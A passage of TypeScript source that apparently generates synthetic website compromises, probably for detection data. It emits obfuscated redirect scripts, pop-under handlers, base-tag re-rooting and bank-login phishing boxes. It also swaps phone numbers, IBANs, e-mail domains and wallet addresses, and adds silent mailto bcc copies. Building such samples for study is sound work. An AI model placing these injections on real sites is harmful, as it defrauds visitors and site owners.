    out.push(insert(pick(rng, [slotAt(page.spots, "top"), slotAt(page.spots, "bottom"), slotAt(page.spots, "middle")]), `<p class="${pick(rng, ["app-download", "android-app", "mobile-app"])}"><a href="${esc(file)}">${esc(w.line)}</a>${chance(rng, 0.7) ? ` <small>${esc(w.note)}</small>` : ""}</p>`))
  }
  return { splices: out }
})

// Pop-unders and tab-unders, recalled from memory of malvertising and hacked-site write-ups (Malwarebytes on pop-under scripts, about 2015–2023; "tab-under" pages that open the clicked link in a new tab and send the tab left behind to a scam): the site's own links given onclick handlers that open another host in a new window, or open the link in a new tab and send the original tab elsewhere; their href stays.
const clickUnder = deface("site's own links given onclick handlers that open another host (pop-under) or open the link in a new tab and send the tab left behind to another host, href kept", (page, rng) => {
  const url = `https://${hostile(rng, page)}/${pick(rng, ["", "go/", "lp/", "offer/", "?z="])}${alnum(rng, between(rng, 4, 8))}`
  const own = ownLinks(page)
  const pool = own.length > 0 ? own : links(page)
  const chosen = pool.length === 0 ? [] : chance(rng, 0.3) ? pool.slice(0, 60) : sample(rng, pool, between(rng, Math.min(3, pool.length), Math.min(10, pool.length)))
  const handler = pick(rng, [
    `window.open(${js(url)},"_blank");`,
    `window.open(this.href,"_blank");location.href=${js(url)};return false;`,
    `var w=window.open(${js(url)},"_blank");if(w){w.blur();window.focus()}`,
    `if(!sessionStorage._pu){sessionStorage._pu=1;window.open(${js(url)})}`
  ])
  const out = chosen.map((a) => setAttr(page, a, "onclick", handler))
  if (out.length === 0) out.push(insert(top(page), `<a href="${esc(url)}" style="position:fixed;inset:0;z-index:9999" onclick="window.open(this.href)"></a>`))
  return { splices: out }
})

// Spelled-out redirects, recalled from memory of Sucuri's and Wordfence's notes on redirect injections whose target never appears as text (String.fromCharCode lists, atob, reversed strings, hex escapes, about 2012–2024), often only for visitors arriving from a search engine so the owner typing the address sees nothing: a delayed redirect built from encoded characters, sometimes conditional on the referrer.
const encodedRedirect = deface("delayed redirect whose target is spelled in character codes, base64, a reversed string or hex escapes, sometimes only for visitors arriving from a search engine", (page, rng) => {
  const url = `https://${hostile(rng, page)}/${pick(rng, ["", "?ref=", "go?", "in/", "t/"])}${alnum(rng, between(rng, 3, 9))}`
  const spelled = pick(rng, [
    () => `String.fromCharCode(${[...url].map((c) => c.charCodeAt(0)).join(",")})`,
    () => `atob(${js(Buffer.from(url).toString("base64"))})`,
    () => `${js([...url].reverse().join(""))}.split("").reverse().join("")`,
    () => `"${[...url].map((c) => `\\x${c.charCodeAt(0).toString(16).padStart(2, "0")}`).join("")}"`,
    () => `decodeURIComponent(${js([...url].map((c) => `%${c.charCodeAt(0).toString(16).padStart(2, "0")}`).join(""))})`
  ])()
  const cond = pick(rng, ["", "", `/google\\.|bing\\.|yahoo\\.|duckduckgo\\.|yandex\\./i.test(document.referrer)`, `document.referrer!==""&&document.referrer.indexOf(location.hostname)<0`])
  const go = `window[${js("loc")}+${js("ation")}][${js("hr")}+${js("ef")}]=${spelled}`
  const body = `setTimeout(function(){${go}},${pick(rng, [0, 500, 1500, 3000, 8000])})`
  return splices(insert(scriptAt(rng, page), `<script>${cond === "" ? body : `if(${cond}){${body}}`}</script>`))
})

const banksBy: Record<string, ReadonlyArray<string>> = {
  us: ["Chase", "Bank of America", "Wells Fargo", "Citi", "Capital One", "U.S. Bank"],
  uk: ["Barclays", "HSBC", "Lloyds", "NatWest", "Santander", "Monzo", "Nationwide"],
  fr: ["BNP Paribas", "Crédit Agricole", "Société Générale", "La Banque Postale", "LCL", "Boursorama"],
  de: ["Sparkasse", "Deutsche Bank", "Commerzbank", "ING", "Volksbank", "N26", "Postbank"],
  es: ["Santander", "BBVA", "CaixaBank", "Sabadell", "Bankinter", "ING"],
  nl: ["ING", "Rabobank", "ABN AMRO", "SNS", "ASN Bank", "bunq"],
  au: ["CommBank", "Westpac", "ANZ", "NAB", "ING", "Bendigo Bank"],
  in: ["SBI", "HDFC Bank", "ICICI Bank", "Axis Bank", "Kotak", "Punjab National Bank"],
  br: ["Itaú", "Bradesco", "Banco do Brasil", "Caixa", "Nubank", "Santander"],
  it: ["Intesa Sanpaolo", "UniCredit", "BPER", "Poste Italiane", "Banco BPM", "Fineco"]
}
const payByBankWords: T<{ readonly head: string; readonly sub: string }> = {
  en: { head: "Pay by bank – fast and secure", sub: "Choose your bank to confirm the payment in your online banking." },
  fr: { head: "Payer par virement instantané", sub: "Choisissez votre banque pour confirmer le paiement dans votre espace bancaire." },
  de: { head: "Direkt mit Ihrer Bank bezahlen", sub: "Wählen Sie Ihre Bank, um die Zahlung im Online-Banking zu bestätigen." },
  es: { head: "Paga con tu banco, rápido y seguro", sub: "Elige tu banco para confirmar el pago en tu banca online." },
  nl: { head: "Betaal direct via je bank", sub: "Kies je bank om de betaling te bevestigen in je internetbankieren." },
  pt: { head: "Pague pelo seu banco, rápido e seguro", sub: "Escolha o seu banco para confirmar o pagamento no internet banking." },
  it: { head: "Paga con la tua banca, veloce e sicuro", sub: "Scegli la tua banca per confermare il pagamento nel tuo home banking." }
}

// Bank pickers, recalled from memory of phishing kits imitating open-banking "pay by bank" flows and bank-selection pages (UK and EU reports on kits with one login clone per national bank, about 2019–2024, and Brazilian kits for Pix): a "pay by bank" box in the site's language listing the country's banks, each linking to a login clone on a look-alike host carrying the site's name.
const bankPicker = deface("'pay by bank' box in the site's language listing the country's banks, each leading to a login clone on another host that carries the site's name as merchant", (page, rng) => {
  const banks = sample(rng, banksBy[page.site.locale.country] ?? banksBy["us"]!, between(rng, 3, 6))
  const host = pick(rng, [() => randomDomain(rng), () => `${pick(rng, ["paybybank", "openbank", "bankpay", "secure-bank", "instant-pay"])}-${pick(rng, ["eu", "online", "portal", "verify", alnum(rng, 3)])}.${tld(rng)}`])()
  const w = payByBankWords[lang(page)]
  const ref = alnum(rng, 8)
  const items = banks.map((b) => `<a href="${esc(`https://${host}/${slug(b)}/${pick(rng, ["login", "auth", "signin", "logon"])}?merchant=${bare(page)}&ref=${ref}`)}" style="display:inline-block;border:1px solid #ccc;border-radius:6px;padding:8px 12px;margin:4px;text-decoration:none">${esc(b)}</a>`)
  const html = `<div class="${pick(rng, ["pay-by-bank", "bank-payment", "payment-options"])}" style="border:1px solid #ddd;padding:14px;margin:12px 0"><h3>${esc(w.head)}</h3><p>${esc(w.sub)}</p><div>${items.join("")}</div></div>`
  return splices(pick(rng, [() => besideContact(rng, page, html), () => insert(slotAt(page.spots, "top"), html), () => insert(slotAt(page.spots, "middle"), html)])())
})

// Re-rooted pages, recalled from memory of injections of a <base> element into a CMS's head template (noted by security vendors and in OWASP's notes on base-tag injection, about 2012–2023): every relative link, form action, script and picture of the page then resolves against another host that mirrors the site.
const baseReroot = deface("a base element added to (or changed in) the head, so every relative link, form action, script and picture resolves against another host mirroring the site", (page, rng) => {
  const host = pick(rng, [() => brandLookalike(rng, page.site.brand), () => randomDomain(rng), () => `${page.site.host.replace(/^www\./, "").replace(/\./g, "-")}.${pick(rng, ["mirror", "cache", "proxy", "edge"])}-${alnum(rng, 3)}.${tld(rng)}`])()
  const href = pick(rng, [`https://${host}/`, `https://${host}/${page.site.host}/`, `//${host}/`])
  const bases = page.spots.elements.filter((e) => e.name === "base" && !e.inert && attrValue(page.html, e, "href") !== null)
  if (bases.length > 0) return splices(setAttr(page, bases[0]!, "href", href))
  const headEl = page.spots.elements.find((e) => e.name === "head" && !e.inert)
  return splices(insert(headEl !== undefined ? headEl.openEnd : head(page), `<base href="${esc(href)}">`))
})

// ———————————————————————————— identifiers ————————————————————————————

// International-line swaps, recalled from memory of fraud cases where only the "from abroad" number of a travel agency or hotel was replaced (callers from abroad rarely notice, local staff never call it; hospitality-fraud reports, about 2018–2024): the international notation of the site's phone replaced with another number in the same format, the national notation and any tel: link left as they were.
const abroadLineOnly = deface("only the international notation of the site's phone replaced with another number in the same format, the national notation and tel: link left as they were", (page, rng) => {
  const p = page.ids.phone
  const other = swapPhone(page.site.locale, p, rng)
  const out = textOccurrences(page, p.intl).map((r) => replace(r, esc(other.intl)))
  if (out.length === 0) return splices(besideContact(rng, page, `${esc(page.site.words.abroad)}: ${esc(other.intl)}`))
  return { splices: out }
})

// Dial-target swaps, recalled from memory of call-fraud reports (about 2017–2024) on tel: links changed while the shown number stayed (the attacker's line answers "customer service" on mobiles, where the link is tapped rather than read): the tel: targets of the site's phone pointed at another number; where the phone was plain text it becomes a tel: link to another number, its shown digits unchanged.
const dialTargetSwap = deface("tel: links of the site's phone dialling another number while the shown number stays (plain-text numbers wrapped in tel: links to another number)", (page, rng) => {
  const p = page.ids.phone
  const other = swapPhone(page.site.locale, p, rng)
  const out: Array<Splice> = occurrences(page, `tel:${p.tel}`).filter((r) => !inText(page, r)).map((r) => replace(r, `tel:${other.tel}`))
  if (out.length === 0) {
    const intl = textOccurrences(page, p.intl)
    const nat = textOccurrences(page, p.national).filter((r) => !intl.some((i) => r.start >= i.start && r.end <= i.end))
    for (const r of [...nat, ...intl]) {
      const run = page.spots.texts.find((t) => r.start >= t.start && r.end <= t.end)
      if (run !== undefined && under(page, run, /^a$/) !== null) continue
      out.push(replace(r, `<a href="tel:${other.tel}">${page.html.slice(r.start, r.end)}</a>`))
    }
  }
  if (out.length === 0) out.push(besideContact(rng, page, `${esc(page.site.words.phone)}: <a href="tel:${other.tel}">${esc(p.national)}</a>`))
  return { splices: out }
})

// Free-mail mailboxes named after the domain, recalled from memory of business-e-mail-compromise and fake-shop reports (about 2016–2024) in which the contact address was replaced by a free-mail account whose local part spells the organisation's domain ("info.acme.co.uk@gmail.com"), which readers take for the same address: the site's e-mail replaced wherever it appears, in text and mailto: links.
const domainInLocalPart = deface("site's e-mail replaced everywhere (text and mailto:) by a free-mail address whose local part spells the organisation's domain ('info.acme.com@gmail.com')", (page, rng) => {
  const email = page.ids.email
  const [local] = email.split("@") as [string]
  const d = page.site.domain
  const replacement = pick(rng, [
    () => `${local}.${d}@${freeMail(rng)}`,
    () => `${d}.${local}@${freeMail(rng)}`,
    () => `${d.replace(/\./g, "")}@${freeMail(rng)}`,
    () => `${local}-${d.replace(/\./g, "-")}@${freeMail(rng)}`,
    () => `${bare(page)}.${pick(rng, ["office", "service", "desk", "contact", local])}@${freeMail(rng)}`
  ])()
  const out = replaceEverywhere(page, [[email, replacement]])
  if (out.length === 0) return splices(besideContact(rng, page, `${esc(page.site.words.email)}: <a href="mailto:${esc(replacement)}">${esc(replacement)}</a>`))
  return { splices: out }
})

const homoglyphs: Record<string, string> = { a: "а", c: "с", e: "е", i: "і", j: "ј", o: "о", p: "р", s: "ѕ", x: "х", y: "у", h: "һ", d: "ԁ", l: "ӏ", k: "κ", n: "ո", g: "ɡ" }

// Homoglyph domains, recalled from memory of IDN homograph research (Xudong Zheng's 2017 "аррӏе.com" demonstration) and of BEC reports in which the contact address on a compromised site was changed to a domain that differs from the real one only by a Cyrillic or Greek letter: the e-mail domain respelled with one or two look-alike letters, shown in Unicode, the mailto: link in Unicode or punycode.
const homoglyphMailDomain = deface("domain of the site's e-mail respelled with one or two Cyrillic or Greek look-alike letters (shown identical), mailto: links in Unicode or punycode", (page, rng) => {
  const email = page.ids.email
  const at = email.lastIndexOf("@")
  const local = email.slice(0, at)
  const domain = email.slice(at + 1)
  const dot = domain.indexOf(".")
  const label = dot === -1 ? domain : domain.slice(0, dot)
  const rest = dot === -1 ? "" : domain.slice(dot)
  const idx = [...label].map((c, i) => (homoglyphs[c] !== undefined ? i : -1)).filter((i) => i !== -1)
  let spoofed: string
  if (idx.length === 0) spoofed = `${label.replace(/l/, "1").replace(/o/, "0")}${/[lo]/.test(label) ? "" : "s"}`
  else {
    const chosen = new Set(sample(rng, idx, between(rng, 1, Math.min(2, idx.length))))
    spoofed = [...label].map((c, i) => (chosen.has(i) ? homoglyphs[c]! : c)).join("")
  }
  const uni = `${local}@${spoofed}${rest}`
  const ascii = domainToASCII(`${spoofed}${rest}`)
  const inHref = chance(rng, 0.5) && ascii !== "" ? `${local}@${ascii}` : uni
  const out = occurrences(page, email).map((r) => replace(r, esc(inText(page, r) ? uni : inHref)))
  if (out.length === 0) return splices(besideContact(rng, page, `${esc(page.site.words.email)}: ${esc(uni)}`))
  return { splices: out }
})

interface Foreign {
  readonly iban: string
  readonly bic: string
}
/** A valid IBAN at a foreign e-money institution or neobank (check digits computed; bank codes as such accounts show them). */
const emiIban = (rng: Rng): Foreign =>
  pick(rng, [
    () => ({ iban: iban("LT", pick(rng, ["32500", "35000", "36500"]) + digits(rng, 11)), bic: pick(rng, ["REVOLT21", "PAYSLT22", "UAPSLT22"]) }),
    () => ({ iban: iban("EE", "77" + digits(rng, 14)), bic: "LHVBEE22" }),
    () => {
      const ten = "967" + digits(rng, 7)
      const check = Number(BigInt(ten) % 97n) || 97
      return { iban: iban("BE", ten + String(check).padStart(2, "0")), bic: "TRWIBEB1" }
    },
    () => ({ iban: iban("GB", "CLJU" + "04130" + digits(rng, 9)), bic: "CLJUGB21" }),
    () => ({ iban: iban("DE", "10011001" + digits(rng, 10)), bic: "NTSBDEB1" }),
    () => ({ iban: iban("MT", upper(rng, 4) + digits(rng, 5) + digits(rng, 6) + upper(rng, 2) + digits(rng, 10)), bic: `${upper(rng, 4)}MTM${upper(rng, 1)}` }),
    () => ({ iban: iban("LU", digits(rng, 3) + digits(rng, 13)), bic: pick(rng, ["BCIRLULL", "BEEALULL", "AMAZLULL"]) })
  ])()

// E-money-institution accounts, recalled from memory of BEC and invoice-fraud advisories (Europol, UK Finance and FBI IC3, about 2018–2024) noting that the replacement account is usually at a neobank or e-money institution in another country (Lithuanian, Estonian, Belgian or Maltese IBANs, Clear Junction "GB..CLJU" accounts): the site's IBAN (or national account line) replaced by such an IBAN with valid check digits, sometimes with its BIC; a bank line is added where the page had none.
const emiAccountSwap = deface("site's IBAN or account line replaced by a valid IBAN at a foreign e-money institution or neobank (LT, EE, BE, GB..CLJU, MT...), sometimes with its BIC; added as a bank line where there was none", (page, rng) => {
  const f = emiIban(rng)
  const b = page.ids.bank
  const withBic = chance(rng, 0.5)
  const shownAs = (grouped: boolean) => `${grouped ? groupIban(f.iban) : f.iban}${withBic ? ` (BIC ${f.bic})` : ""}`
  if (b !== null) {
    const occ = textOccurrences(page, b.value)
    if (occ.length > 0) return { splices: occ.map((r) => replace(r, esc(b.kind === "iban" ? shownAs(/\s/.test(b.value)) : `IBAN ${shownAs(true)}`))) }
  }
  return splices(besideContact(rng, page, `${esc(page.site.words.bank)}: IBAN ${esc(shownAs(chance(rng, 0.7)))}`))
})

/** `s` with its middle redrawn from `chars`, keeping `head` leading and `tail` trailing characters. */
const poison = (rng: Rng, s: string, head: number, tail: number, chars: string): string => {
  for (;;) {
    let mid = ""
    for (let i = head; i < s.length - tail; i++) mid += chars[int(rng, chars.length)]
    const out = s.slice(0, head) + mid + s.slice(s.length - tail)
    if (out !== s) return out
  }
}

// Address poisoning, recalled from memory of Chainalysis's and Etherscan's warnings on "address poisoning" (vanity addresses generated to share the first and last characters of a victim's address, so that people who check only the ends copy the wrong one, about 2022–2024): the site's wallet address replaced by such a look-alike; on pages without a wallet the IBAN gets the same treatment (country, bank code and last digits kept), else the phone (first and last digits kept).
const addressPoisoning = deface("site's wallet address replaced by a look-alike sharing its first and last characters (address poisoning); without a wallet the IBAN (ends kept), else the phone (ends kept)", (page, rng) => {
  const w = page.ids.wallet
  if (w !== null) {
    const a = w.address
    const keep = between(rng, 4, 6)
    const next = a.startsWith("bc1q")
      ? poison(rng, a, 4 + keep, keep, "qpzry9x8gf2tvdw0s3jn54khce6mua7l")
      : a.startsWith("0x")
      ? poison(rng, a, 2 + keep, keep, "0123456789abcdef")
      : poison(rng, a, 1 + keep, keep, "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz")
    const out = replaceEverywhere(page, [[a, next]])
    if (out.length > 0) return { splices: out }
  }
  const b = page.ids.bank
  if (b !== null && b.kind === "iban") {
    const compact = b.value.replace(/\s+/g, "")
    const country = compact.slice(0, 2)
    const bban = compact.slice(4)
    const bankPart = Math.min(8, Math.max(4, bban.length - 8))
    const middle = poison(rng, bban, bankPart, 4, /^[0-9]+$/.test(bban.slice(bankPart, bban.length - 4)) ? "0123456789" : "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZ")
    const next = iban(country, middle)
    const shownNext = /\s/.test(b.value) ? groupIban(next) : next
    const out = replaceEverywhere(page, [[b.value, shownNext]])
    if (out.length > 0) return { splices: out }
  }
  const p = page.ids.phone
  const d = poison(rng, p.digits, Math.min(4, p.digits.length - 4), 2, "0123456789")
  const f = page.site.locale.phones[p.format % page.site.locale.phones.length]!
  const next = { national: f.national(d), intl: f.intl(d), tel: `+${f.cc}${d}` }
  return { splices: replaceEverywhere(page, [[p.intl, next.intl], [p.national, next.national], [`tel:${p.tel}`, `tel:${next.tel}`]]) }
})

/** A mobile number of another country, as shown and as digits for wa.me. */
const foreignMobile = (rng: Rng): { readonly shown: string; readonly e164: string } =>
  pick(rng, [
    () => { const d = "7" + digits(rng, 9); return { shown: `+44 ${d.slice(0, 4)} ${d.slice(4)}`, e164: `44${d}` } },
    () => { const d = pick(rng, ["803", "806", "813", "816", "703", "706", "903", "906"]) + digits(rng, 7); return { shown: `+234 ${d.slice(0, 3)} ${d.slice(3, 6)} ${d.slice(6)}`, e164: `234${d}` } },
    () => { const d = pick(rng, ["24", "54", "55", "20"]) + digits(rng, 7); return { shown: `+233 ${d.slice(0, 2)} ${d.slice(2, 5)} ${d.slice(5)}`, e164: `233${d}` } },
    () => { const d = "8" + pick(rng, ["12", "13", "21", "52", "77"]) + digits(rng, 7); return { shown: `+62 ${d.slice(0, 3)}-${d.slice(3, 7)}-${d.slice(7)}`, e164: `62${d}` } },
    () => { const d = "7" + pick(rng, ["0", "1", "2", "9"]) + digits(rng, 7); return { shown: `+254 ${d.slice(0, 3)} ${d.slice(3, 6)} ${d.slice(6)}`, e164: `254${d}` } },
    () => { const d = "6" + digits(rng, 8); return { shown: `+212 ${d[0]} ${d.slice(1, 3)} ${d.slice(3, 5)} ${d.slice(5, 7)} ${d.slice(7)}`, e164: `212${d}` } },
    () => { const d = "5" + digits(rng, 9); return { shown: `+90 ${d.slice(0, 3)} ${d.slice(3, 6)} ${d.slice(6, 8)} ${d.slice(8)}`, e164: `90${d}` } },
    () => { const d = "9" + digits(rng, 9); return { shown: `+63 ${d.slice(0, 3)} ${d.slice(3, 6)} ${d.slice(6)}`, e164: `63${d}` } },
    () => { const d = String(between(rng, 6, 9)) + digits(rng, 9); return { shown: `+91 ${d.slice(0, 5)} ${d.slice(5)}`, e164: `91${d}` } }
  ])()

// WhatsApp takeovers, recalled from memory of reports on fake-shop and tech-support fraud (about 2019–2024) in which a small business's phone lines were replaced by a WhatsApp click-to-chat link to a foreign mobile, where "staff" take orders and payments: the site's phone numbers shown as another country's mobile and their tel: links pointed at wa.me.
const whatsappForeign = deface("site's phone numbers replaced by another country's mobile number and their tel: links pointed at a WhatsApp click-to-chat (wa.me) link", (page, rng) => {
  const p = page.ids.phone
  const m = foreignMobile(rng)
  const tag = chance(rng, 0.5) ? " (WhatsApp)" : ""
  const out = replaceEverywhere(page, [[p.intl, `${m.shown}${tag}`], [p.national, `${m.shown}${tag}`], [`tel:${p.tel}`, `https://wa.me/${m.e164}`]])
  if (out.length === 0) return splices(besideContact(rng, page, `WhatsApp: <a href="https://wa.me/${m.e164}">${esc(m.shown)}</a>`))
  return { splices: out }
})

const migrationWords: T<(v: { wa: string; acct: string; name: string }) => string> = {
  en: (v) => `Notice: we are moving to a new order system. Until the migration is complete, card payments on this website are switched off. Please send your order by WhatsApp to ${v.wa} and pay by bank transfer to ${v.acct} (account holder: ${v.name}). Orders are dispatched as soon as the payment arrives.`,
  fr: (v) => `Information : nous migrons vers un nouveau système de commande. Pendant la migration, le paiement par carte est désactivé sur ce site. Merci d'envoyer votre commande par WhatsApp au ${v.wa} et de régler par virement sur le compte ${v.acct} (titulaire : ${v.name}). Les commandes sont expédiées dès réception du paiement.`,
  de: (v) => `Hinweis: Wir stellen auf ein neues Bestellsystem um. Bis zum Abschluss der Umstellung ist die Kartenzahlung auf dieser Website deaktiviert. Bitte senden Sie Ihre Bestellung per WhatsApp an ${v.wa} und überweisen Sie auf das Konto ${v.acct} (Kontoinhaber: ${v.name}). Der Versand erfolgt nach Zahlungseingang.`,
  es: (v) => `Aviso: estamos migrando a un nuevo sistema de pedidos. Mientras dure la migración, el pago con tarjeta está desactivado en esta web. Envíe su pedido por WhatsApp al ${v.wa} y pague por transferencia a la cuenta ${v.acct} (titular: ${v.name}). Los pedidos se envían en cuanto se recibe el pago.`,
  nl: (v) => `Let op: we stappen over op een nieuw bestelsysteem. Tot de overstap klaar is, is betalen met kaart op deze website uitgeschakeld. Stuur je bestelling via WhatsApp naar ${v.wa} en betaal per overboeking naar ${v.acct} (rekeninghouder: ${v.name}). Bestellingen worden verzonden zodra de betaling binnen is.`,
  pt: (v) => `Aviso: estamos migrando para um novo sistema de pedidos. Até a migração terminar, o pagamento com cartão está desativado neste site. Envie seu pedido pelo WhatsApp para ${v.wa} e pague por transferência para a conta ${v.acct} (titular: ${v.name}). Os pedidos são enviados assim que o pagamento for confirmado.`,
  it: (v) => `Avviso: stiamo passando a un nuovo sistema di ordini. Fino al termine della migrazione il pagamento con carta su questo sito è disattivato. Inviate l'ordine via WhatsApp al ${v.wa} e pagate con bonifico sul conto ${v.acct} (intestatario: ${v.name}). Gli ordini vengono spediti appena ricevuto il pagamento.`
}

// Migration notices, recalled from memory of fraud warnings about compromised small-shop and restaurant sites (about 2020–2024) where a notice in the shop's own voice announced a "system migration" and moved orders to a WhatsApp number and payments to a private person's account: such a notice in the site's language near the top, naming a foreign mobile and another account.
const migrationDetour = deface("'we are moving to a new order system' notice in the shop's voice sending orders to a WhatsApp number and payments to a private person's account", (page, rng) => {
  const l = lang(page)
  const m = foreignMobile(rng)
  const loc = page.site.locale
  const acct = loc.iban !== null && chance(rng, 0.6) ? groupIban(loc.iban(rng)) : loc.nationalBank !== null && chance(rng, 0.7) ? loc.nationalBank(rng) : groupIban(emiIban(rng).iban)
  const text = migrationWords[l]({ wa: m.shown, acct, name: pick(rng, personNames[l]) })
  const html = `<div class="${pick(rng, ["notice", "site-alert", "info-bar", "announcement"])}" style="${pick(rng, ["background:#fffbe6;border:1px solid #f0d36b;padding:12px 16px", "background:#e8f4fd;border-left:5px solid #1a73e8;padding:12px", "padding:10px;border:1px solid #999"])}"><p>${esc(text).replace(esc(m.shown), `<a href="https://wa.me/${m.e164}">${esc(m.shown)}</a>`)}</p></div>`
  return splices(insert(pick(rng, [top(page), slotAt(page.spots, "top")]), html))
})

// One impostor name, recalled from memory of brand-impersonation reports (ZeroFox, Bolster and Meta's adversarial threat reports, about 2019–2024) on "support" accounts used to intercept customers, and of compromised sites whose follow and payment links were pointed at them together: the site's social profile links and its payment handle moved to one consistent impostor name (the brand with support, help, official or care), labels unchanged.
const impostorHandles = deface("site's social profile links and payment handle moved together to one impostor name (the brand with 'support', 'help', 'official', 'care'), link labels unchanged", (page, rng) => {
  const name = `${bare(page)}${pick(rng, ["_support", ".help", "official", "_care", "_helpdesk", "team", "_service", "hq_"])}`
  const pairs: Array<readonly [string, string]> = []
  const social = chance(rng, 0.6) ? page.ids.social : sample(rng, page.ids.social, between(rng, 1, Math.max(1, page.ids.social.length)))
  for (const s of social) {
    if (s.href === null) continue
    const m = s.href.match(/^(.*\/)(@|\$)?([^/@$]+)(\/?)$/)
    if (m === null) continue
    pairs.push([s.href, `${m[1]}${m[2] ?? ""}${/instagram|linkedin|t\.me/.test(s.href) ? name.toLowerCase() : name}${m[4]}`])
  }
  const pay = page.ids.pay
  if (pay !== null && pay.href !== null && chance(rng, 0.8)) {
    const m = pay.href.match(/^(.*\/)(@|\$)?([^/@$]+)$/)
    if (m !== null) {
      pairs.push([pay.href, `${m[1]}${m[2] ?? ""}${name}`])
      pairs.push([pay.shown, pay.shown.replace(m[3]!, name)])
    }
  }
  const out = replaceEverywhere(page, pairs)
  if (out.length === 0) return splices(besideContact(rng, page, `${esc(page.site.words.follow)}: <a href="https://www.instagram.com/${esc(name.toLowerCase())}/">Instagram</a>`))
  return { splices: out }
})

// Silent copies, recalled from memory of RFC 6068 (mailto: URIs may carry cc and bcc) and of phishing research showing that mail clients fill those fields silently (about 2015–2023): the site's mailto: links keep their shown address and recipient but gain a bcc or cc to an outside mailbox; where the address is plain text it becomes such a link.
const mailtoSilentCopy = deface("site's mailto: links given a bcc (or cc) to an outside mailbox, the shown address and recipient kept (plain-text addresses wrapped in such links)", (page, rng) => {
  const email = page.ids.email
  const outside = pick(rng, [() => `${bare(page)}.${pick(rng, ["copies", "archive", "inbox", "records"])}@${freeMail(rng)}`, () => `${nick(rng).replace(/[^A-Za-z0-9]/g, "").toLowerCase() || "box"}@${pick(rng, ["proton.me", "tutanota.com", "cock.li", "mail.ru"])}`, () => `archive-${alnum(rng, 5)}@${randomDomain(rng)}`])()
  const field = pick(rng, ["bcc", "bcc", "cc"])
  const target = `mailto:${email}`
  const out: Array<Splice> = occurrences(page, target).filter((r) => !inText(page, r) && !/^[?]/.test(page.html.slice(r.end, r.end + 1))).map((r) => replace(r, esc(`${target}?${field}=${outside}`)))
  if (out.length === 0) {
    for (const r of textOccurrences(page, email)) {
      const run = page.spots.texts.find((t) => r.start >= t.start && r.end <= t.end)
      if (run !== undefined && under(page, run, /^a$/) !== null) continue
      out.push(replace(r, `<a href="${esc(`${target}?${field}=${outside}`)}">${esc(email)}</a>`))
    }
  }
  if (out.length === 0) out.push(besideContact(rng, page, `<a href="${esc(`${target}?${field}=${outside}`)}">${esc(email)}</a>`))
  return { splices: out }
})

/** A premium-rate number of the site's country: national, international and tel: forms. */
const premiumNumber = (rng: Rng, country: string): { readonly national: string; readonly intl: string; readonly tel: string } => {
  switch (country) {
    case "uk": { const d = "906" + digits(rng, 7); return { national: `0${d.slice(0, 3)} ${d.slice(3, 6)} ${d.slice(6)}`, intl: `+44 ${d.slice(0, 3)} ${d.slice(3, 6)} ${d.slice(6)}`, tel: `+44${d}` } }
    case "fr": { const d = "899" + digits(rng, 6); return { national: `08 99 ${d.slice(3, 5)} ${d.slice(5, 7)} ${d.slice(7)}`, intl: `+33 8 99 ${d.slice(3, 5)} ${d.slice(5, 7)} ${d.slice(7)}`, tel: `+33${d}` } }
    case "de": { const d = "900" + String(between(rng, 1, 5)) + digits(rng, 6); return { national: `0${d.slice(0, 3)} ${d.slice(3)}`, intl: `+49 ${d.slice(0, 3)} ${d.slice(3)}`, tel: `+49${d}` } }
    case "es": { const d = pick(rng, ["806", "807", "905"]) + digits(rng, 6); return { national: `${d.slice(0, 3)} ${d.slice(3, 5)} ${d.slice(5, 7)} ${d.slice(7)}`, intl: `+34 ${d.slice(0, 3)} ${d.slice(3, 5)} ${d.slice(5, 7)} ${d.slice(7)}`, tel: `+34${d}` } }
    case "nl": { const d = "900" + digits(rng, 7); return { national: `0900-${d.slice(3)}`, intl: `+31 900 ${d.slice(3)}`, tel: `+31${d}` } }
    case "au": { const d = "1900" + digits(rng, 6); return { national: `${d.slice(0, 4)} ${d.slice(4, 7)} ${d.slice(7)}`, intl: `+61 ${d.slice(0, 4)} ${d.slice(4, 7)} ${d.slice(7)}`, tel: `+61${d}` } }
    case "it": { const d = pick(rng, ["899", "892"]) + digits(rng, 6); return { national: `${d.slice(0, 3)} ${d.slice(3, 6)} ${d.slice(6)}`, intl: `+39 ${d.slice(0, 3)} ${d.slice(3, 6)} ${d.slice(6)}`, tel: `+39${d}` } }
    case "br": { const d = "900" + digits(rng, 7); return { national: `0${d.slice(0, 3)} ${d.slice(3, 6)} ${d.slice(6)}`, intl: `+55 ${d.slice(0, 3)} ${d.slice(3, 6)} ${d.slice(6)}`, tel: `+55${d}` } }
    case "in": { const d = "1900" + digits(rng, 7); return { national: `${d.slice(0, 4)} ${d.slice(4, 7)} ${d.slice(7)}`, intl: `+91 ${d.slice(0, 4)} ${d.slice(4, 7)} ${d.slice(7)}`, tel: `+91${d}` } }
    default: { const d = "900" + String(between(rng, 2, 9)) + digits(rng, 6); return { national: `1-${d.slice(0, 3)}-${d.slice(3, 6)}-${d.slice(6)}`, intl: `+1 ${d.slice(0, 3)} ${d.slice(3, 6)} ${d.slice(6)}`, tel: `+1${d}` } }
  }
}

// Premium-rate swaps, recalled from memory of Ofcom, PhonepayPlus and consumer-protection warnings (about 2012–2024) on hacked or cloned contact pages listing a premium-rate number (0906, 08 99, 0900, 1-900, 899) in place of the real one, billed per minute to callers: the site's phone replaced by such a number of its country, in both notations and the tel: link.
const premiumRateSwap = deface("site's phone replaced in both notations and its tel: link by a premium-rate number of its own country (0906, 08 99, 0900, 1-900, 899, 806)", (page, rng) => {
  const p = page.ids.phone
  const n = premiumNumber(rng, page.site.locale.country)
  const out = replaceEverywhere(page, [[p.intl, n.intl], [p.national, n.national], [`tel:${p.tel}`, `tel:${n.tel}`]])
  if (out.length === 0) return splices(besideContact(rng, page, `${esc(page.site.words.phone)}: <a href="tel:${n.tel}">${esc(n.national)}</a>`))
  return { splices: out }
})

/** Every fresh29 defacement class, in a fixed order. */
export const fresh29Defacements: ReadonlyArray<ChangeClass> = [
  pictureSwap, selfIncrimination, nameInsult, seizureNotice, insolvencyNotice, encryptedContent, japaneseKeywordHack, midSentenceSpam, foreignVerse, generatedHeadings, hiddenSoundtrack, tabTitleIcon,
  buttonFormaction, protocolRelativeAction, faviconLeakSkimmer, touchOnlyRedirect, pasteCommandLure, fontPackLure, sideloadedApp, clickUnder, encodedRedirect, bankPicker, baseReroot,
